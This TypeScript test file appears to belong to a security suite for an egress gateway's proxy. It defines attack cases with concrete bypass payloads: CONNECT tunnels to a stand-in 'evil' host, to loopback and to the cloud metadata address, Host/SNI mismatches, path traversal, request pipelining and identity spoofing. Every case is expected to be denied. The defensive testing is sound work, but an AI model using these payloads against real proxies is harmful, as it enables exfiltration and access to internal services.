/** Threat: the gateway's proxy for clients that insist on one is a second way out, judged otherwise than the first. */
import { groupOf, node } from "../attack.ts";
import type { Case } from "../model.ts";
import { all, neverPrints, nothingAnywhere, nothingReached, prints, recorded, serverGot } from "../witness.ts";

const attack = groupOf("network", ["egress"]);
const sealed = { promise: "egress-sealed" };
/** What is said to the proxy, and TLS within what it opens. */
const PROXY = `
const proxy = (text, ms = 900) => rawTcp("proxy.creel.local", 3128, text.replaceAll("\\n", "\\r\\n"), ms);
const tunnel = (target, servername, request) => new Promise((done) => {
  const s = net.connect(3128, "proxy.creel.local");
  s.on("error", (e) => done(e.code));
  s.once("data", (d) => {
    if (!String(d).startsWith("HTTP/1.1 200")) return done(String(d).slice(0, 40));
    const t = tls.connect({ socket: s, servername, rejectUnauthorized: false });
    let text = "";
    t.on("error", (e) => done(e.code)); t.on("data", (c) => { text += c; }); t.on("close", () => done(text.slice(0, 60)));
    t.on("secureConnect", () => t.write(request.replaceAll("\\n", "\\r\\n")));
    setTimeout(() => { s.destroy(); done("late " + text.slice(0, 60)); }, 20000);
  });
  s.write("CONNECT " + target + " HTTP/1.1\\r\\nHost: " + target + "\\r\\n\\r\\n");
});
`;
const through = (text: string) => node(`${PROXY}\n${text}; process.exit(0)`);

export const proxy: Case[] = [
  attack("proxy-honest", "control: an allowed request gets there and back through the proxy", {
    promise: "honest-work",
    control: true,
    program: through(
      `say(await tunnel("api.creel.example:443", "api.creel.example", "GET /v1/proxied HTTP/1.1\\nHost: api.creel.example\\nConnection: close\\n\\n"))`,
    ),
    expect: all(prints(/HTTP\/1\.1 200/), serverGot("api", /^GET \/v1\/proxied/)),
  }),
  attack("proxy-connect-other", "asks it for a tunnel to a host that no rule names", {
    ...sealed,
    needs: ["journal"],
    program: through(
      `say(await tunnel("evil.creel.example:443", "evil.creel.example", "GET / HTTP/1.1\\nHost: evil.creel.example\\n\\n"))`,
    ),
    expect: all(nothingAnywhere, recorded({ decision: "deny", host: "evil.creel.example" })),
  }),
  attack("proxy-connect-address", "asks it for tunnels to the host, the metadata service and private networks", {
    ...sealed,
    program: through(
      `for (const t of ["127.0.0.1:" + process.env.LOOPBACK_PORT, "localhost:" + process.env.LOOPBACK_PORT, process.env.OWN_ADDRESS + ":" + process.env.EVERYWHERE_PORT, "[::1]:" + process.env.EVERYWHERE_PORT, "169.254.169.254:80", "2130706433:80", "0:" + process.env.LOOPBACK_PORT]) say(t + " " + await proxy("CONNECT " + t + " HTTP/1.1\\nHost: " + t + "\\n\\nGET / HTTP/1.0\\n\\n", 400))`,
    ),
    expect: nothingAnywhere,
  }),
  attack("proxy-sni-other", "says another name in TLS than the tunnel's", {
    promise: "names-agree",
    program: through(
      `for (const name of ["evil.creel.example", "other.creel.example"]) say(await tunnel("api.creel.example:443", name, "GET /v1/x HTTP/1.1\\nHost: " + name + "\\n\\n"))`,
    ),
    expect: nothingAnywhere,
  }),
  attack("proxy-connect-host-other", "names another host in Host than in CONNECT", {
    promise: "names-agree",
    program: through(`say(await proxy("CONNECT api.creel.example:443 HTTP/1.1\\nHost: evil.creel.example:443\\n\\n"))`),
    expect: all(nothingAnywhere, neverPrints(/HTTP\/1\.1 200/)),
  }),
  attack("proxy-absolute-host", "asks in absolute form with another Host", {
    promise: "names-agree",
    program: through(
      `say(await proxy("GET http://plain.creel.example/x HTTP/1.1\\nHost: evil.creel.example\\n\\n")); say(await proxy("GET http://evil.creel.example/x HTTP/1.1\\nHost: plain.creel.example\\n\\n"))`,
    ),
    expect: all(nothingReached("evil"), nothingReached("plain"), neverPrints(/HTTP\/1\.1 200/)),
  }),
  attack("proxy-absolute-denied", "asks in absolute form for what the rules deny", {
    promise: "rules",
    program: through(
      `for (const r of ["DELETE https://api.creel.example/v1/x", "GET https://api.creel.example/admin", "GET https://api.creel.example/v1/../admin", "GET https://u:p@api.creel.example/v1/x"]) say(await proxy(r + " HTTP/1.1\\nHost: api.creel.example\\nConnection: close\\n\\n"))`,
    ),
    expect: all(nothingAnywhere, neverPrints(/HTTP\/1\.1 200/)),
  }),
  attack("proxy-itself", "has it connect to itself, for ever", {
    promise: "limits",
    program: through(
      `for (const t of ["proxy.creel.local:3128", "PROXY.creel.local.:3128"]) say(await proxy(("CONNECT " + t + " HTTP/1.1\\nHost: " + t + "\\n\\n").repeat(50))); say(await proxy("GET http://proxy.creel.local:3128/ HTTP/1.1\\nHost: proxy.creel.local:3128\\n\\n"))`,
    ),
    expect: all(nothingAnywhere, neverPrints(/HTTP\/1\.1 200/)),
  }),
  attack("proxy-pipelined", "sends a denied request behind the CONNECT, before it is answered", {
    promise: "judged-is-forwarded",
    program: through(
      `say(await proxy("CONNECT api.creel.example:443 HTTP/1.1\\nHost: api.creel.example:443\\nContent-Length: 40\\n\\nGET http://evil.creel.example/ HTTP/1.1\\n\\n")); say(await proxy("GET http://plain.creel.example/a HTTP/1.1\\nHost: plain.creel.example\\n\\nCONNECT evil.creel.example:443 HTTP/1.1\\nHost: evil.creel.example:443\\n\\nstolen"))`,
    ),
    expect: nothingReached("evil", "api"),
  }),
  attack("proxy-other-program", "another program uses the proxy in the name of the one that may", {
    promise: "identity-recorded",
    needs: ["identity"],
    program: node(
      `say(cp.spawnSync(process.env.TOOLS + "/calls", ["connect", "proxy.creel.local", "3128", "GET http://plain.creel.example/stolen HTTP/1.1\\r\\nHost: plain.creel.example\\r\\n\\r\\n"]).stdout.toString())`,
    ),
    expect: nothingAnywhere,
  }),
];
